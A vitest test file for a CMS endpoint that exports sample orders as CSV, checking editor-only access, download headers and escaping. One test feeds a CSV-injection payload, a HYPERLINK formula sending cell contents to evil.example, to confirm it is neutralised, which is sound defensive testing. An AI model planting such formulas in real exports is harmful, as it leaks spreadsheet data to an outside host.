import type { PayloadRequest } from 'payload'
import { describe, expect, it, vi } from 'vitest'
import type { SampleOrder } from '../../../payload-types'
import { exportCsv, MAX_EXPORTED_ORDERS, sampleOrdersCsv } from './export-csv'

const order = (overrides: Partial<SampleOrder['contact']> = {}): SampleOrder => ({
  id: 1,
  reference: 'SO-ABCD-EFGH',
  idempotencyKey: '4b7f8a52-2f0e-4d5b-9a55-0f3c1b0a9e11',
  regionTag: 'regionUs',
  locale: 'en',
  forwardStatus: 'pending',
  forwardAttempts: 0,
  items: [
    { sku: 'TF-10001', id: 'a' },
    { sku: 'TF-10002', id: 'b' },
  ],
  contact: {
    firstName: 'Ana',
    lastName: 'Lopez',
    email: 'ana@bistro.example',
    phone: '+12125550134',
    phoneExtension: null,
    businessName: 'Bistro Ana',
    businessType: 'restaurant',
    ...overrides,
  },
  shippingAddress: {
    street: '12 Main St',
    street2: null,
    city: 'New York',
    state: 'NY',
    postcode: '10001',
    country: 'US',
  },
  createdAt: '2025-03-01T10:00:00.000Z',
  updatedAt: '2025-03-01T10:00:00.000Z',
})

const lines = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n')

describe('sampleOrdersCsv', () => {
  it('writes a header and one row per order, empty cells for empty fields', () => {
    expect(lines(sampleOrdersCsv([order()]))).toEqual([
      'reference,date,region,locale,items,firstName,lastName,email,phone,phoneExtension,businessName,businessType,street,street2,city,state,postcode,country',
      "SO-ABCD-EFGH,2025-03-01T10:00:00.000Z,regionUs,en,TF-10001 TF-10002,Ana,Lopez,ana@bistro.example,'+12125550134,,Bistro Ana,restaurant,12 Main St,,New York,NY,10001,US",
      '',
    ])
  })

  it('neutralises formulas a visitor typed, and quotes what needs quoting', () => {
    const [, row] = lines(
      sampleOrdersCsv([
        order({
          businessName: '=HYPERLINK("https://evil.example?"&A1,"Bistro")',
          lastName: '@SUM(A1:A9)',
          firstName: 'Ana, "Chef"',
        }),
      ]),
    )
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""Bistro"")"`)
    expect(row).toContain("'@SUM(A1:A9)")
    expect(row).toContain('"Ana, ""Chef"""')
    expect(row).not.toMatch(/(^|,)[=@+-]/)
  })
})

describe('GET /api/sample-orders/export.csv', () => {
  const call = (user: unknown, docs: SampleOrder[] = []) => {
    const find = vi.fn().mockResolvedValue({ docs })
    const req = { user, payload: { find } } as unknown as PayloadRequest
    return { find, response: exportCsv.handler(req) as Promise<Response> }
  }

  it('refuses anyone but an editor with 403, reading nothing', async () => {
    for (const user of [null, { id: 1, collection: 'partner-users' }]) {
      const { find, response } = call(user)
      const answer = await response
      expect(answer.status).toBe(403)
      await expect(answer.json()).resolves.toEqual({
        message: 'Only editors can export sample orders.',
      })
      expect(find).not.toHaveBeenCalled()
    }
  })

  it('sends editors the newest orders as a CSV download', async () => {
    const { find, response } = call({ id: 1, collection: 'users' }, [order()])
    const answer = await response
    expect(answer.status).toBe(200)
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(answer.headers.get('content-disposition')).toBe(
      'attachment; filename="sample-orders.csv"',
    )
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    expect(lines(await answer.text())[1]).toMatch(/^SO-ABCD-EFGH,/)
    expect(find).toHaveBeenCalledWith(
      expect.objectContaining({
        collection: 'sample-orders',
        sort: '-createdAt',
        limit: MAX_EXPORTED_ORDERS,
        depth: 0,
      }),
    )
  })
})
